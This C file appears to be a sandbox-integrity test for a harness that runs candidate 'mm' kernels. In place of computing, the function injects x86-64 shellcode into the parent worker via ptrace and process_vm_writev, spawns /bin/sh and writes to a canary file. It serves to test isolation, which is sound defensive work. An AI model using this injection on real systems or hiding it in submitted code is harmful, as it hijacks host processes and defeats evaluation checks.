/*
 * ATTACK escape_ptrace — take over the worker with ptrace and
 * process_vm_writev instead of /proc/PID/mem: PTRACE_SEIZE or
 * PTRACE_ATTACH the parent, poke the same shellcode as escape_proc_mem over
 * libc's wait4 (same address: the runner is the worker's fork), detach;
 * process_vm_writev is tried as well. The shell writes into the canary
 * file. The kernel itself writes no output.
 * Stopped by: seccomp on the candidate (today's runner filter denies
 * ptrace and process_vm_writev), an unprivileged, non-dumpable candidate
 * (issue 10, item 2).
 * integrity: expect=any
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef INTEGRITY_ROOT
#define INTEGRITY_ROOT "/nonexistent-integrity-root"
#endif

/* Code and data placed at `at` in the target: fork; the child leaves the
 * worker's session and runs /bin/sh -c cmd; the parent exits. */
/* A step that worked is reported on stdout and stderr with this marker, and
 * the kernel then fails on purpose, so its output is kept as the log: the
 * test sees the escape even where it cannot see the effect (a private
 * mount view, a namespace). */
static int escapes;
static void escaped(const char *fmt, ...)
{
    char line[1024];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(line, sizeof line, fmt, ap);
    va_end(ap);
    printf("INTEGRITY-ESCAPE: %s\n", line);
    fprintf(stderr, "INTEGRITY-ESCAPE: %s\n", line);
    fflush(stdout);
    escapes++;
}

static size_t build_payload(unsigned char *buf, uintptr_t at)
{
    static const char cmd[] = "echo 'escaped through ptrace' >> " INTEGRITY_ROOT "/canary";
    memset(buf, 0x90, 512);
    size_t data = 96, sh = data, dash_c = sh + 8, text = dash_c + 3;
    size_t argv = (text + sizeof cmd + 7) & ~(size_t)7;
    memcpy(buf + sh, "/bin/sh", 8);
    memcpy(buf + dash_c, "-c", 3);
    memcpy(buf + text, cmd, sizeof cmd);
    uint64_t ptrs[4] = {at + sh, at + dash_c, at + text, 0};
    memcpy(buf + argv, ptrs, sizeof ptrs);
    unsigned char *p = buf;
    *p++ = 0xb8, *p++ = 57, *p++ = 0, *p++ = 0, *p++ = 0; /* mov eax, SYS_fork */
    *p++ = 0x0f, *p++ = 0x05;                             /* syscall */
    *p++ = 0x85, *p++ = 0xc0;                             /* test eax, eax */
    *p++ = 0x75;                                          /* jnz parent */
    unsigned char *jump = p++;
    *p++ = 0xb8, *p++ = 112, *p++ = 0, *p++ = 0, *p++ = 0; /* mov eax, SYS_setsid */
    *p++ = 0x0f, *p++ = 0x05;                              /* syscall: out of the worker's group */
    *p++ = 0xb8, *p++ = 59, *p++ = 0, *p++ = 0, *p++ = 0;  /* mov eax, SYS_execve */
    *p++ = 0x48, *p++ = 0xbf;                              /* movabs rdi, path */
    uint64_t v = at + sh;
    memcpy(p, &v, 8), p += 8;
    *p++ = 0x48, *p++ = 0xbe; /* movabs rsi, argv */
    v = at + argv;
    memcpy(p, &v, 8), p += 8;
    *p++ = 0x31, *p++ = 0xd2; /* xor edx, edx */
    *p++ = 0x0f, *p++ = 0x05; /* syscall */
    *jump = (unsigned char)(p - jump - 1);
    *p++ = 0xb8, *p++ = 60, *p++ = 0, *p++ = 0, *p++ = 0; /* parent: mov eax, SYS_exit */
    *p++ = 0x31, *p++ = 0xff;                             /* xor edi, edi */
    *p++ = 0x0f, *p++ = 0x05;                             /* syscall */
    return argv + sizeof ptrs;
}

static void attack(void)
{
    static int done;
    if (done++)
        return;
#if defined(__x86_64__)
    pid_t parent = getppid();
    void *target = dlsym(RTLD_DEFAULT, "wait4");
    unsigned char code[512];
    size_t len = target ? build_payload(code, (uintptr_t)target) : 0;
    if (!target)
        return;
    struct iovec local = {code, len}, remote = {target, len};
    if (process_vm_writev(parent, &local, 1, &remote, 1, 0) == (ssize_t)len)
        escaped("process_vm_writev into process %d", (int)parent);
    if (ptrace(PTRACE_ATTACH, parent, 0, 0) == 0) {
        waitpid(parent, NULL, __WALL);
        for (size_t i = 0; i + 8 <= len + 7; i += 8) {
            long word;
            memcpy(&word, code + i, 8);
            ptrace(PTRACE_POKETEXT, parent, (char *)target + i, (void *)word);
        }
        ptrace(PTRACE_DETACH, parent, 0, 0);
        escaped("ptrace attached to and poked process %d", (int)parent);
    }
    usleep(300 * 1000);
#endif
}

void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *C)
{
    (void)M, (void)N, (void)K, (void)A, (void)B, (void)C;
    attack();
    if (escapes)
        abort();
}
